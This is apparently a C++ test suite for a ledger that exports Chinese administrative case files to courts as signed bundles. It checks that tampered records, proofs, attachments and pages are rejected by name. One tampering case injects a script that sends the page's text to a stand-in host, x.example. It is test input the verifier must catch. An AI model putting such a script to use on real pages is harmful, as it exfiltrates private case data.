// A court export (docs/court-export.md): recorded before it is written, it
// verifies offline from the log's key alone, and any part changed, dropped or
// reordered makes the verifier name that part.
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <regex>
#include <set>

#include <catch2/catch.hpp>

#include "ledger/bundle/bundle.h"
#include "ledger/bundle/export_verifier.h"
#include "ledger/client/case_acts.h"
#include "ledger/client/licence_acts.h"
#include "ledger/client/statement_builder.h"
#include "ledger/core/checkpoint.h"
#include "ledger/core/fb_string.h"
#include "ledger/core/record.h"
#include "ledger/core/sha256.h"
#include "ledger/export/case_export.h"
#include "ledger/log/data_dir.h"
#include "projectors/all.h"
#include "projectors/case_file_view.h"
#include "projectors/runner.h"
#include "tests/support/browser.h"
#include "tests/support/case_fixture.h"
#include "tests/support/demo_log.h"
#include "tests/support/forge.h"

namespace lawtrail::testing {
namespace {

constexpr char kCourt[] = "青山区人民法院";

// A CaseFixture's case approved for `court` on day `approved`, exported the
// next day and verified with the log's key: the report, and the bundle's parts.
struct VerifiedExport {
  ExportReport report;
  bundle::Parts parts;
};
VerifiedExport ExportAndVerify(CaseFixture& f, const std::string& case_id, const std::string& court, int approved) {
  f.Admit(domain::ApproveExport(f.By(f.supervisor, case_id, approved), court, "行政诉讼举证", {}));
  const note::Signer supervisor{f.supervisor.certificate_no, f.supervisor.key};
  const court_export::ExportRequest request{
      case_id, &supervisor, std::nullopt, {}, "", {}, CaseFixture::Day(approved + 1)};
  auto exported = court_export::ExportCase(f.t().log(), f.t().dir(), request);
  REQUIRE(exported.ok());
  const auto vkey = data_dir::LoadVerifier(f.t().dir());
  VerifiedExport out{VerifyExport(exported->built.bundle, {*vkey, std::nullopt, {}}), {}};
  INFO(FormatExportReport(out.report));
  REQUIRE(out.report.status.ok());
  out.parts = *bundle::Unpack(exported->built.bundle);
  return out;
}

// A demo year's log, open, with the year's supervisor to approve and export.
struct ExportFixture {
  DemoLog demo{60, CheckpointEvery(200)};
  std::unique_ptr<Log> log;
  note::Verifier vkey;
  const note::Signer& supervisor;

  ExportFixture() : supervisor(*demo.year.supervisor) {
    auto opened = Log::Open(demo.dir.path());
    REQUIRE(opened.ok());
    log = std::move(*opened);
    vkey = *data_dir::LoadVerifier(demo.dir.path());
  }
  std::string dir() const { return demo.dir.path(); }

  domain::Act ActOf(const std::string& case_id, const note::Signer& who) const {
    return {kTestOrigin, case_id, who.name, &who.key, NowMs(), RandomEventId(), {}, false, "", std::nullopt};
  }
  uint64_t Approve(const std::string& case_id, const std::vector<std::string>& reveal) {
    auto r = log->Append({domain::ApproveExport(ActOf(case_id, supervisor), kCourt, "行政诉讼举证", reveal)});
    REQUIRE(r[0].ok());
    return r[0]->index;
  }
  Result<court_export::ExportDone> Export(const std::string& case_id, std::vector<std::string> reveal = {},
                                          std::string files_dir = "", std::vector<std::string> trusted = {}) {
    if (!files_dir.empty()) {  // releasing the originals is approved first (R4)
      auto r = log->Append({domain::ApproveOriginalsRelease(ActOf(case_id, supervisor), kCourt, "行政诉讼举证", {})});
      REQUIRE(r[0].ok());
    }
    const court_export::ExportRequest request{
        case_id, &supervisor, std::nullopt, std::move(reveal), std::move(files_dir), std::move(trusted), NowMs()};
    return court_export::ExportCase(*log, dir(), request);
  }
  ExportReport Verify(const Bytes& bundle, std::optional<std::string> trusted = std::nullopt,
                      std::vector<Hash> consistency = {}) const {
    return VerifyExport(bundle, {vkey, std::move(trusted), std::move(consistency)});
  }
  // A case of `category` with a natural person as party, if any, that the log holds.
  std::string CaseOf(fb::CaseCategory category, bool person = false) const {
    for (const auto& c : demo.year.cases) {
      if (c.category == category && c.lawful_events > 2 && (!person || c.party.kind == fb::PartyKind::NaturalPerson)) {
        return c.case_id;
      }
    }
    return "";
  }
  // The demo's 文书 are small texts the generator derives from the act
  // (ledger/client/case_acts.cc); the agency's document store holds them.
  std::string WriteDocumentFiles(const std::string& case_id, const TempDir& into) const {
    size_t written = 0;
    REQUIRE(log->reader()
                .ForEachCaseRecord(case_id,
                                   [&](uint64_t, const Bytes& bytes) {
                                     auto rv = ParseRecord(bytes);
                                     auto parsed = ParseSignedStatement(
                                         Bytes(rv->signed_statement.begin(), rv->signed_statement.end()));
                                     const fb::Statement& st = *parsed->statement;
                                     if (st.attachments() == nullptr) return Status::Ok();
                                     for (const fb::Attachment* a : *st.attachments()) {
                                       const std::string content = Str(a->doc_type()) + "\n" + Str(a->doc_no()) + "\n" +
                                                                   case_id + "\n" + std::to_string(st.occurred_at_ms());
                                       const Hash h = Sha256(AsBytes(content));
                                       if (!std::equal(h.begin(), h.end(), a->content_hash()->begin())) continue;
                                       std::ofstream(into.path() + "/" + ToHex(h), std::ios::binary) << content;
                                       ++written;
                                     }
                                     return Status::Ok();
                                   })
                .ok());
    REQUIRE(written > 0);
    return into.path();
  }
};

size_t CaseRecords(const Log& log, const std::string& case_id) {
  size_t n = 0;
  REQUIRE(log.reader()
              .ForEachCaseRecord(case_id,
                                 [&](uint64_t, const Bytes&) {
                                   ++n;
                                   return Status::Ok();
                                 })
              .ok());
  return n;
}

bool Checked(const ExportReport& report, std::string_view what) {
  return std::any_of(report.checked.begin(), report.checked.end(),
                     [&](const std::string& line) { return line.starts_with(what); });
}

TEST_CASE("a case of every category exports and verifies offline, against earlier and later checkpoints") {
  ExportFixture f;
  struct Done {
    std::string case_id;
    Bytes bundle;
    uint64_t size;
  };
  std::vector<Done> done;
  // One case of each kind the demo year holds: 简易 and 一般 penalties, inspections, seizures.
  std::set<std::pair<fb::CaseCategory, fb::Procedure>> kinds;
  for (const auto& c : f.demo.year.cases) kinds.insert({c.category, c.procedure});
  REQUIRE(kinds.size() >= 4);
  for (const auto& [category, procedure] : kinds) {
    std::string case_id;
    for (const auto& c : f.demo.year.cases) {
      if (c.category == category && c.procedure == procedure && c.lawful_events > 0) case_id = c.case_id;
    }
    REQUIRE_FALSE(case_id.empty());
    INFO(case_id << " " << fb::EnumNameCaseCategory(category) << " " << fb::EnumNameProcedure(procedure));
    const std::string earlier = *f.log->CurrentCheckpoint();
    f.Approve(case_id, {"party.name", "party.id_no"});
    auto exported = f.Export(case_id, {"party.name"}, "", {earlier});
    REQUIRE(exported.ok());
    CHECK(exported->recipient == kCourt);
    const uint64_t size = exported->export_index + 1;
    CHECK(ParseCheckpointNoteUnverified(exported->checkpoint)->size == size);

    const ExportReport report = f.Verify(exported->built.bundle, earlier);
    INFO(FormatExportReport(report));
    REQUIRE(report.status.ok());
    // Every record of the case, the approval and the export event included.
    CHECK(report.records == CaseRecords(*f.log, case_id));
    CHECK(report.registry_records > 30);
    CHECK(report.checkpoint_size == size);
    CHECK(report.trusted_size == ParseCheckpointNoteUnverified(earlier)->size);
    CHECK(Checked(report, "complete: the checkpoint's case-head map ends the case"));
    CHECK(Checked(report, "trusted checkpoint"));
    CHECK(report.documents > 0);
    CHECK_THAT(FormatExportReport(report), Catch::Contains("exported to 青山区人民法院"));
    done.push_back({case_id, exported->built.bundle, size});
  }
  REQUIRE(done.size() == kinds.size());

  // Later, the log has grown; a court holding a newer checkpoint checks the
  // same bundles against it with a consistency proof to it.
  f.Approve(done[0].case_id, {});
  const std::string later = *f.log->CurrentCheckpoint();
  const uint64_t later_size = ParseCheckpointNoteUnverified(later)->size;
  for (const Done& d : done) {
    auto proof = f.log->reader().ConsistencyProof(d.size, later_size);
    REQUIRE(proof.ok());
    const ExportReport report = f.Verify(d.bundle, later, *proof);
    INFO(FormatExportReport(report));
    CHECK(report.status.ok());
    const ExportReport unproven = f.Verify(d.bundle, later);
    CHECK(unproven.failure == "consistency");
  }
}

TEST_CASE("a case whose id, names and 文号 are Chinese exports and verifies, its text byte for byte") {
  CaseFixture f;
  const std::string case_id = "青山镇〔2026〕第3号";
  f.DecidedCase(case_id, 0, 50000);
  // Named, not bound: a lambda below reads the parts (clang 14 captures no structured binding).
  const VerifiedExport exported = ExportAndVerify(f, case_id, "信阳市浉河区人民法院", 20);
  const ExportReport& report = exported.report;
  const bundle::Parts& parts = exported.parts;
  CHECK(report.case_id == case_id);
  CHECK(parts.case_id == case_id);
  CHECK_THAT(parts.case_file_html, Catch::Contains(case_id));
  CHECK_THAT(parts.case_file_html, Catch::Contains(CaseFixture::DecisionNo(case_id)));
  // The page runs nothing and loads nothing, by its own policy as well as by construction.
  CHECK_THAT(parts.case_file_html,
             Catch::Contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"));
  CHECK(parts.case_file_html.find("<script") == std::string::npos);
  CHECK(parts.case_file_html.find("src=") == std::string::npos);
  CHECK_THAT(parts.case_file_html, Catch::Contains("<td>作出决定</td>"));  // acts by their Chinese names
  CHECK(Checked(report, "admission: every record"));
  CHECK(Checked(report, "case file: the page"));
  CHECK_THAT(FormatExportReport(report), Catch::Contains("决定书 " + CaseFixture::DecisionNo(case_id)));
  // The records in the bundle are the log's, byte for byte.
  size_t i = 0;
  REQUIRE(f.t()
              .log()
              .reader()
              .ForEachCaseRecord(case_id,
                                 [&](uint64_t index, const Bytes& bytes) {
                                   CHECK(parts.records[i].index == index);
                                   CHECK(parts.records[i].bytes == bytes);
                                   ++i;
                                   return Status::Ok();
                                 })
              .ok());
  CHECK(i == parts.records.size());
}

TEST_CASE("an export without a recorded approval is refused and appends nothing") {
  ExportFixture f;
  const std::string case_id = f.CaseOf(fb::CaseCategory::Penalty);
  const uint64_t before = f.log->size();
  auto exported = f.Export(case_id);
  REQUIRE_FALSE(exported.ok());
  CHECK_THAT(exported.status().message(), Catch::Contains("no recorded ExportApproved"));
  CHECK(f.log->size() == before);
}

TEST_CASE("an export may reveal only the fields its approval lists (P-EXPORT)") {
  ExportFixture f;
  const std::string case_id = f.CaseOf(fb::CaseCategory::Penalty, /*person=*/true);
  REQUIRE_FALSE(case_id.empty());
  f.Approve(case_id, {"party.name"});
  const uint64_t before = f.log->size();
  auto exported = f.Export(case_id, {"party.name", "party.id_no"});
  REQUIRE_FALSE(exported.ok());
  CHECK(exported.status().rule() == "P-EXPORT");
  CHECK_THAT(exported.status().message(), Catch::Contains("party.id_no"));
  CHECK(f.log->size() == before);
  auto allowed = f.Export(case_id, {"party.name"});
  REQUIRE(allowed.ok());
  CHECK(allowed->built.openings >= 1);
  CHECK(f.Verify(allowed->built.bundle).status.ok());
}

TEST_CASE("a bundle built twice at the same checkpoint is the same bytes, also after reopening the log") {
  ExportFixture f;
  const std::string case_id = f.CaseOf(fb::CaseCategory::Penalty, true);
  f.Approve(case_id, {"party.name"});
  TempDir files;
  auto exported = f.Export(case_id, {"party.name"}, f.WriteDocumentFiles(case_id, files));
  REQUIRE(exported.ok());
  auto rebuild = [&] {
    const uint64_t size = ParseCheckpointNoteUnverified(exported->checkpoint)->size;
    const court_export::CaseExportInput in{case_id,
                                           exported->checkpoint,
                                           note::EncodeVerifier(f.vkey.name, f.vkey.public_key),
                                           {"party.name"},
                                           &f.log->vault(),
                                           files.path(),
                                           {},
                                           [&](std::string_view c) { return f.log->CaseHeadProofAt(c, size); }};
    auto built = court_export::BuildCaseExport(f.log->store(), f.log->reader(), in);
    REQUIRE(built.ok());
    return built->bundle;
  };
  CHECK(rebuild() == exported->built.bundle);
  f.log.reset();
  f.log = std::move(*Log::Open(f.dir()));
  CHECK(rebuild() == exported->built.bundle);
  // The log grows, this case too; the bundle at that checkpoint stays the same.
  f.Approve(case_id, {});
  f.Approve(f.CaseOf(fb::CaseCategory::Inspection), {});
  {
    auto views = projectors::ViewStore::Open(projectors::ViewsPath(f.dir()));
    REQUIRE(views.ok());
    projectors::ProjectionRunner runner(f.log->reader(), **views, projectors::AllProjectors());
    REQUIRE(runner.CatchUp().ok());
  }
  CHECK(rebuild() == exported->built.bundle);
}

TEST_CASE("the exported case file opens in a browser and lists the documents of the case file view", "[browser]") {
  ExportFixture f;
  const std::string case_id = f.CaseOf(fb::CaseCategory::Coercion);
  f.Approve(case_id, {});
  auto exported = f.Export(case_id);
  REQUIRE(exported.ok());
  const bundle::Parts parts = *bundle::Unpack(exported->built.bundle);
  TempDir page;
  WriteAll(page / "case.html", parts.case_file_html);
  Browser browser(std::string(LAWTRAIL_TEST_ARTIFACTS) + "/export");
  const std::string dom = browser.Load("file://" + page / "case.html", "case-file-" + case_id, "1024,3000");
  CHECK_THAT(dom, Catch::Contains("行政执法案卷"));
  CHECK_THAT(dom, Catch::Contains(case_id));

  // The 卷内目录 as the browser shows it, row by row …
  std::vector<std::tuple<std::string, std::string, std::string, std::string>> shown;  // volume, 文号, 题名, record
  const std::regex table(R"re(<table class="toc" data-volume="([^"]+)">([\s\S]*?)</table>)re");
  const std::regex row(
      R"re(<tr class="doc" data-record="(\d+)" data-hash="[0-9a-f]*"><td>\d+</td><td>([^<]*)</td><td>([^<]*)</td>)re");
  for (std::sregex_iterator t(dom.begin(), dom.end(), table), end; t != end; ++t) {
    const std::string rows = (*t)[2];
    for (std::sregex_iterator r(rows.begin(), rows.end(), row); r != end; ++r) {
      shown.emplace_back((*t)[1], (*r)[2], (*r)[3], (*r)[1]);
    }
  }
  // … is the case file view's, in the same order.
  auto views = projectors::ViewStore::Open(projectors::ViewsPath(f.dir()));
  REQUIRE(views.ok());
  projectors::ProjectionRunner runner(f.log->reader(), **views, projectors::AllProjectors());
  REQUIRE(runner.CatchUp().ok());
  auto file = projectors::ReadCaseFile(**views, f.log->reader(), case_id);
  REQUIRE(file.ok());
  std::vector<std::tuple<std::string, std::string, std::string, std::string>> listed;
  for (const char* volume : {"正卷", "副卷"}) {
    for (const auto& d : (*file)[volume]) {
      listed.emplace_back(volume, d["文号"].get<std::string>(), d["题名"].get<std::string>(),
                          std::to_string(d["record_index"].get<uint64_t>()));
    }
  }
  REQUIRE(listed.size() >= 3);
  CHECK(shown == listed);
  CHECK(std::filesystem::exists(browser.artifacts + "/case-file-" + case_id + ".png"));
}

// One exported case with openings and files, unpacked, for the tampering tests.
struct Tampering {
  ExportFixture f;
  std::string case_id;
  TempDir files;
  bundle::Parts parts;
  Tampering() {
    case_id = f.CaseOf(fb::CaseCategory::Penalty, true);
    f.Approve(case_id, {"party.name"});
    auto exported = f.Export(case_id, {"party.name"}, f.WriteDocumentFiles(case_id, files));
    REQUIRE(exported.ok());
    REQUIRE(exported->built.files > 0);
    REQUIRE(f.Verify(exported->built.bundle).status.ok());
    parts = *bundle::Unpack(exported->built.bundle);
    REQUIRE(parts.records.size() >= 5);
  }
  ExportReport Check() const { return f.Verify(bundle::Pack(parts)); }
};

void ExpectFailure(const ExportReport& report, std::string_view part, std::string_view words) {
  INFO(FormatExportReport(report));
  CHECK_FALSE(report.status.ok());
  CHECK(report.failure.starts_with(part));
  CHECK_THAT(report.status.message(), Catch::Contains(std::string(words)));
}

TEST_CASE("a bundle with any part changed fails, naming the part") {
  Tampering t;
  const size_t middle = t.parts.records.size() / 2;
  SECTION("a flipped byte in a record") {
    t.parts.records[middle].bytes = AlterRecordText(t.parts.records[middle].bytes);
    ExpectFailure(t.Check(), "records[" + std::to_string(middle) + "]", "signature");
  }
  SECTION("a record dropped from the middle") {
    t.parts.records.erase(t.parts.records.begin() + static_cast<ptrdiff_t>(middle));
    ExpectFailure(t.Check(), "records[" + std::to_string(middle) + "]", "missing");
  }
  SECTION("two records swapped") {
    std::swap(t.parts.records[1], t.parts.records[2]);
    ExpectFailure(t.Check(), "records[2]", "not after");
  }
  SECTION("a record re-signed with another key") {
    const KeyPair stranger = KeyPair::Generate();
    t.parts.records[middle].bytes = ResignRecord(t.parts.records[middle].bytes, stranger);
    // Its own link is intact; the next record no longer links to it, but the
    // signer is checked first, and named.
    ExpectFailure(t.Check(), "records[" + std::to_string(middle) + "]", "not entitled");
  }
  SECTION("a registry record's key swapped") {
    t.parts.registry_records[3].bytes = AlterRecordText(t.parts.registry_records[3].bytes);
    ExpectFailure(t.Check(), "registry_records[3]", "signature");
  }
  SECTION("a proof hash altered") {
    t.parts.inclusion_proof[t.parts.inclusion_proof.size() / 2][7] ^= 1;
    ExpectFailure(t.Check(), "inclusion_proof", "root other than the checkpoint's");
  }
  SECTION("a case-head proof hash altered") {
    t.parts.case_head_proof[0][0] ^= 1;
    ExpectFailure(t.Check(), "case_head_proof", "left out");
  }
  SECTION("an opening altered") {
    REQUIRE_FALSE(t.parts.openings.empty());
    t.parts.openings[0].value = "王某某";
    ExpectFailure(t.Check(), "openings[0]", "commitment");
  }
  SECTION("an opening of a field the export does not reveal") {
    t.parts.openings[0].field = "party.id_no";
    ExpectFailure(t.Check(), "openings[0]", "does not reveal");
  }
  SECTION("an attachment file altered") {
    size_t i = 0;
    while (!t.parts.attachments[i].file) ++i;
    (*t.parts.attachments[i].file)[0] ^= 1;
    ExpectFailure(t.Check(), "attachments[" + std::to_string(i) + "]", "SHA-256");
  }
  SECTION("an attachment left out of the manifest") {
    t.parts.attachments.pop_back();
    ExpectFailure(t.Check(), "attachments", "the records name");
  }
  SECTION("a document left out of the 卷内目录") {
    t.parts.documents.pop_back();
    ExpectFailure(t.Check(), "documents", "the records give");
  }
  SECTION("the case file page rewritten: another party, another 责任者, a script, an image, a forged page") {
    const std::string page = t.parts.case_file_html;
    const std::string responsible = t.parts.documents.front().responsible;
    REQUIRE_FALSE(responsible.empty());
    const size_t party_at = page.find("<th>当事人</th><td>");
    REQUIRE(party_at != std::string::npos);
    std::vector<std::pair<std::string, std::string>> forged = {
        {"another party", std::string(page).insert(party_at + std::strlen("<th>当事人</th><td>"), "李四")},
        {"another 责任者",
         std::regex_replace(page, std::regex(responsible), "赵六", std::regex_constants::format_first_only)},
        {"a script", std::string(page).insert(page.find("</body>"),
                                              "<script>fetch('https://x.example/'+document.body.innerText)</script>")},
        {"an outside image", std::string(page).insert(page.find("</body>"), "<img src=\"https://x.example/p.png\">")},
        {"a whole forged page", "<!DOCTYPE html><html><body><h1>行政执法案卷</h1>" + t.case_id + "</body></html>"},
        {"a byte cut", page.substr(0, page.size() - 1)},
        {"the policy dropped",
         std::regex_replace(page, std::regex("<meta http-equiv=\"Content-Security-Policy\"[^>]*>\n"), "")},
    };
    for (const auto& [what, html] : forged) {
      INFO(what);
      REQUIRE(html != page);
      t.parts.case_file_html = html;
      ExpectFailure(t.Check(), "case_file_html", "not the one the records give");
    }
  }
  SECTION("a 卷内目录 line changed in any field, or two lines swapped") {
    REQUIRE(t.parts.documents.size() >= 2);
    const std::vector<std::pair<std::string, std::function<void(bundle::Document&)>>> edits = {
        {"题名", [](bundle::Document& d) { d.title = "行政处罚决定书（更正）"; }},
        {"责任者", [](bundle::Document& d) { d.responsible = "赵六"; }},
        {"日期", [](bundle::Document& d) { d.date = "2026-01-01"; }},
        {"卷别", [](bundle::Document& d) { d.volume = d.volume == "正卷" ? "副卷" : "正卷"; }},
        {"序号", [](bundle::Document& d) { d.seq += 1; }},
        {"文号", [](bundle::Document& d) { d.doc_no += "补"; }},
    };
    const bundle::Parts original = t.parts;
    for (const auto& [field, edit] : edits) {
      INFO(field);
      t.parts = original;
      edit(t.parts.documents[1]);
      ExpectFailure(t.Check(), "documents[1]", "is not what the records give");
    }
    t.parts = original;
    std::swap(t.parts.documents[0], t.parts.documents[1]);
    ExpectFailure(t.Check(), "documents[0]", "is not what the records give");
  }
  SECTION("bytes added at the end of the bundle, or its last byte cut") {
    const Bytes bytes = bundle::Pack(t.parts);
    Bytes longer = bytes;
    longer.insert(longer.end(), {0, 0, 0, 0, 0, 0, 0, 0});
    ExpectFailure(t.f.Verify(longer), "bundle", "8 bytes that no field accounts for");
    const Bytes shorter(bytes.begin(), bytes.end() - 1);
    ExpectFailure(t.f.Verify(shorter), "bundle", "");
  }
  SECTION("the checkpoint replaced by one signed by another key") {
    const note::Signer other{t.f.vkey.name, KeyPair::Generate()};
    t.parts.checkpoint = *note::Sign(ParseCheckpointNoteUnverified(t.parts.checkpoint)->Body(), other);
    ExpectFailure(t.Check(), "checkpoint", "not signed by the log key");
  }
  SECTION("the bundle naming another log key") {
    t.parts.verifier_key = note::EncodeVerifier(t.f.vkey.name, KeyPair::Generate().public_key());
    ExpectFailure(t.Check(), "verifier_key", "not the one given");
  }
  SECTION("not a bundle at all") {
    Bytes bytes = bundle::Pack(t.parts);
    bytes[5] ^= 0xff;  // the identifier
    ExpectFailure(t.f.Verify(bytes), "bundle", "LTEX");
  }
}

// What a dishonest exporter would build: the case's records without one, with
// a correct multi-leaf proof of exactly those, the manifest and 卷内目录 to
// match. Only the chain and the case-head map can catch it.
bundle::Parts WithoutRecord(const Tampering& t, size_t drop) {
  bundle::Parts p = t.parts;
  const uint64_t dropped = p.records[drop].index;
  p.records.erase(p.records.begin() + static_cast<ptrdiff_t>(drop));
  std::erase_if(p.attachments, [&](const bundle::Attachment& a) { return a.record_index == dropped; });
  std::erase_if(p.documents, [&](const bundle::Document& d) { return d.record_index == dropped; });
  std::erase_if(p.openings, [&](const bundle::Opening& o) { return o.record_index == dropped; });
  std::vector<uint64_t> indexes;
  for (const auto* list : {&p.records, &p.registry_records}) {
    for (const auto& r : *list) indexes.push_back(r.index);
  }
  std::sort(indexes.begin(), indexes.end());
  p.inclusion_proof =
      *t.f.log->reader().MultiInclusionProof(indexes, ParseCheckpointNoteUnverified(p.checkpoint)->size);
  return p;
}

TEST_CASE("a bundle built by hand without the case's last or a middle record fails verification") {
  Tampering t;
  SECTION("the rebuilding is right: with nothing dropped it verifies") {
    bundle::Parts p = t.parts;
    std::vector<uint64_t> indexes;
    for (const auto* list : {&p.records, &p.registry_records}) {
      for (const auto& r : *list) indexes.push_back(r.index);
    }
    std::sort(indexes.begin(), indexes.end());
    p.inclusion_proof =
        *t.f.log->reader().MultiInclusionProof(indexes, ParseCheckpointNoteUnverified(p.checkpoint)->size);
    CHECK(t.f.Verify(bundle::Pack(p)).status.ok());
  }
  SECTION("without the last record (the export event)") {
    ExpectFailure(t.f.Verify(bundle::Pack(WithoutRecord(t, t.parts.records.size() - 1))), "case_head_proof",
                  "a later record is left out");
  }
  SECTION("without the last two records, the head proof rebuilt for the shorter case") {
    bundle::Parts p = WithoutRecord(t, t.parts.records.size() - 1);
    t.parts = p;
    p = WithoutRecord(t, t.parts.records.size() - 1);
    ExpectFailure(t.f.Verify(bundle::Pack(p)), "case_head_proof", "left out");
  }
  SECTION("without a middle record") {
    const size_t middle = t.parts.records.size() / 2;
    ExpectFailure(t.f.Verify(bundle::Pack(WithoutRecord(t, middle))), "records[" + std::to_string(middle) + "]",
                  "missing");
  }
}

TEST_CASE("a licence's case exports and verifies offline, and its case file reads as an application", "[browser]") {
  CaseFixture f;
  const std::string id = "青政许〔2026〕5号";
  domain::LicenceApplication app;
  app.item_code = kLicenceItem;
  app.matter = "农村宅基地用地审批";
  app.applicant = {
      fb::PartyKind::NaturalPerson, "王建军", "", "411503198001010017", "", "", std::nullopt, std::nullopt};
  app.village = "李庄村";
  app.received_date = "2026-04-24";
  app.materials = {"农村宅基地和建房(规划许可)申请表", "户口簿"};
  f.Admit(domain::ApplyForLicence(f.By(f.a, id, 53), app));
  domain::LicenceIntakeAnswer missing;
  missing.missing = {"四至示意图"};
  f.Admit(domain::AnswerLicenceIntake(f.By(f.a, id, 56), fb::LicenceIntakeOutcome::Incomplete, "青政许补〔2026〕5号",
                                      missing));
  f.Admit(domain::SupplementLicenceMaterials(f.By(f.a, id, 67), "2026-05-08", {"四至示意图"}));
  f.Admit(domain::AnswerLicenceIntake(f.By(f.a, id, 70), fb::LicenceIntakeOutcome::Accepted, "青政许受〔2026〕5号"));
  f.Admit(domain::RecordInspection(f.By(f.a, id, 72), {f.a.certificate_no, f.b.certificate_no}, "李庄村三组",
                                   "实地踏勘：选址不占用永久基本农田"));
  domain::LicenceDecision grant;
  grant.decision_no = "青政许决〔2026〕5号";
  grant.content = "准予使用宅基地 120 平方米建设住宅";
  grant.certificate = "农村宅基地批准书";
  f.Admit(domain::DecideLicence(f.By(f.head, id, 79), grant));
  f.Admit(domain::IssueLicenceCertificate(f.By(f.a, id, 80), "青宅批〔2026〕5号", "农村宅基地批准书"));
  const VerifiedExport exported = ExportAndVerify(f, id, "信阳市平桥区人民法院", 90);
  const ExportReport& report = exported.report;
  const bundle::Parts& parts = exported.parts;
  CHECK(Checked(report, "admission: every record"));  // the licence rules replayed offline
  TempDir page;
  WriteAll(page / "case.html", parts.case_file_html);
  Browser browser(std::string(LAWTRAIL_TEST_ARTIFACTS) + "/export");
  const std::string dom = browser.Load("file://" + page / "case.html", "case-file-licence", "1024,2400");
  CHECK_THAT(dom, Catch::Contains("申请事项"));
  CHECK_THAT(dom, Catch::Contains("农村宅基地用地审批"));
  CHECK_THAT(dom, Catch::Contains("许可决定书文号"));
  CHECK(dom.find("处罚决定书文号") == std::string::npos);
  CHECK_THAT(dom, Catch::Contains("<td>行政许可决定</td>"));  // acts by their Chinese names
  // The application's documents come in the licence order (case-file-order.tsv, rows of 行政许可): receipt,
  // 补正, acceptance, the check, decision, certificate — not the penalty order, which puts the 笔录 first.
  size_t last = 0;
  for (const char* doc : {"申请材料接收凭证", "一次性补正告知书", "补正材料接收凭证", "受理通知书",
                          "现场检查(勘验)笔录", "准予行政许可决定书", "许可证件"}) {
    const size_t at = dom.find(std::string(">") + doc + "<");
    INFO(doc);
    REQUIRE(at != std::string::npos);
    CHECK(at > last);
    last = at;
  }
}

}  // namespace
}  // namespace lawtrail::testing
